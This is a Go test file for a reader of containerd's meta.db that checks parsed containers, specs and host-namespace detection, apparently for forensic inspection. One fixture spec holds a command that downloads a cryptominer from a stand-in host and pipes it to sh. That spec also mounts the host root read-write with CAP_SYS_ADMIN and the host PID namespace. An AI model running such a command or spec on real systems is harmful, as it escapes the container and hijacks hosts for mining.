package containerd

import (
	"bytes"
	"encoding/binary"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	bolt "go.etcd.io/bbolt"
)

// anySpec encodes a spec the way containerd stores it: a protobuf Any.
func anySpec(json string) []byte {
	var b []byte
	put := func(field int, v string) {
		b = append(b, byte(field<<3|2))
		b = binary.AppendUvarint(b, uint64(len(v)))
		b = append(b, v...)
	}
	put(1, "types.containerd.io/opencontainers/runtime-spec/1/Spec")
	put(2, json)
	return b
}

const minerSpec = `{"ociVersion":"1.1.0","process":{"args":["chroot","/host","sh","-c","curl -s http://x/xmrig|sh"],"env":["PATH=/bin"],
"capabilities":{"bounding":["CAP_CHOWN","CAP_SYS_ADMIN"]}},"root":{"path":"rootfs"},
"mounts":[{"destination":"/proc","type":"proc","source":"proc"},{"destination":"/host","type":"bind","source":"/","options":["rbind","rw"]}],
"linux":{"namespaces":[{"type":"mount"},{"type":"network"},{"type":"ipc"},{"type":"uts"}]}}`

const webSpec = `{"process":{"args":["nginx","-g","daemon off;"]},"mounts":[{"destination":"/usr/share/nginx/html","type":"bind","source":"/srv/www","options":["rbind","ro"]}],
"linux":{"namespaces":[{"type":"pid"},{"type":"network","path":"/proc/4242/ns/net"},{"type":"mount"}]}}`

// writeMeta writes a meta.db with the bbolt library in containerd's layout.
func writeMeta(t testing.TB, p string) {
	t.Helper()
	db, err := bolt.Open(p, 0o600, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	err = db.Update(func(tx *bolt.Tx) error {
		v1, _ := tx.CreateBucket([]byte("v1"))
		for ns, ctrs := range map[string]map[string][2]string{
			"k8s.io":  {"c0ffee": {"docker.io/library/alpine:latest", minerSpec}, "beef01": {"docker.io/library/nginx:1.25", webSpec}},
			"default": {"plain": {"docker.io/xmrig/xmrig:6", ""}},
		} {
			nb, _ := v1.CreateBucket([]byte(ns))
			nb.CreateBucket([]byte("images"))
			cb, _ := nb.CreateBucket([]byte("containers"))
			for id, v := range ctrs {
				b, _ := cb.CreateBucket([]byte(id))
				b.Put([]byte("image"), []byte(v[0]))
				b.Put([]byte("snapshotter"), []byte("overlayfs"))
				b.Put([]byte("snapshotKey"), []byte(id))
				if v[1] != "" {
					b.Put([]byte("spec"), anySpec(v[1]))
				}
				lb, _ := b.CreateBucket([]byte("labels"))
				lb.Put([]byte("io.kubernetes.container.name"), []byte("c-"+id))
				rb, _ := b.CreateBucket([]byte("runtime"))
				rb.Put([]byte("name"), []byte("io.containerd.runc.v2"))
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}

func TestOpen(t *testing.T) {
	p := filepath.Join(t.TempDir(), "meta.db")
	writeMeta(t, p)
	before, _ := os.ReadFile(p)
	f, _ := os.Open(p)
	fi, _ := f.Stat()
	cs, err := ReadFile(f, fi.Size())
	f.Close()
	if err != nil {
		t.Fatal(err)
	}
	var ids []string
	for _, c := range cs {
		ids = append(ids, c.Namespace+"/"+c.ID)
	}
	if !reflect.DeepEqual(ids, []string{"default/plain", "k8s.io/beef01", "k8s.io/c0ffee"}) {
		t.Fatalf("containers %v", ids)
	}
	m := cs[2]
	if m.Image != "docker.io/library/alpine:latest" || m.Labels["io.kubernetes.container.name"] != "c-c0ffee" || m.Runtime != "io.containerd.runc.v2" ||
		m.Spec == nil || m.Spec.Process.Args[1] != "/host" || m.Spec.Mounts[1].Source != "/" || !m.Spec.HostNamespace("pid") || m.Spec.HostNamespace("network") {
		t.Errorf("miner %+v spec %+v", m, m.Spec)
	}
	w := cs[1].Spec
	if w == nil || w.HostNamespace("pid") || w.HostNamespace("network") {
		t.Errorf("web spec %+v", w)
	}
	if cs[0].Spec != nil || cs[0].Image != "docker.io/xmrig/xmrig:6" {
		t.Errorf("plain %+v", cs[0])
	}
	if after, _ := os.ReadFile(p); !bytes.Equal(before, after) {
		t.Error("the database was changed by reading it")
	}
}

// Truncated, zeroed-in-the-middle and foreign files: errors, never a crash.
func TestOpenBad(t *testing.T) {
	dir := t.TempDir()
	p := filepath.Join(dir, "meta.db")
	writeMeta(t, p)
	good, _ := os.ReadFile(p)
	corrupt := append([]byte{}, good...)
	for i := 2 * 4096; i < len(corrupt); i++ {
		corrupt[i] = 0xA5
	}
	cases := map[string][]byte{
		"truncated":          good[:len(good)/2],
		"tiny":               good[:100],
		"not bbolt":          []byte(strings.Repeat("SQLite format 3\x00", 600)),
		"data pages garbled": corrupt,
	}
	for name, data := range cases {
		t.Run(name, func(t *testing.T) {
			q := filepath.Join(dir, strings.ReplaceAll(name, " ", "-"))
			os.WriteFile(q, data, 0o600)
			cs, err := ReadFile(bytes.NewReader(data), int64(len(data)))
			if err == nil {
				t.Errorf("no error, %d containers", len(cs))
			} else if !strings.Contains(err.Error(), "meta.db") {
				t.Errorf("error does not name the file: %v", err)
			}
		})
	}
}

func FuzzParseSpecAny(f *testing.F) {
	f.Add(anySpec(`{"process":{"args":["a"]},"linux":{"namespaces":[{"type":"pid"}]}}`))
	f.Add([]byte{0x12, 0x02, '{', '}'})
	f.Fuzz(func(t *testing.T, b []byte) {
		s, err := ParseSpecAny(b)
		s2, err2 := ParseSpecAny(b)
		if (err == nil) != (err2 == nil) || !reflect.DeepEqual(s, s2) {
			t.Fatal("different result twice")
		}
		if (s == nil) == (err == nil) {
			t.Fatalf("spec %v with error %v", s, err)
		}
		s.HostNamespace("pid")
	})
}
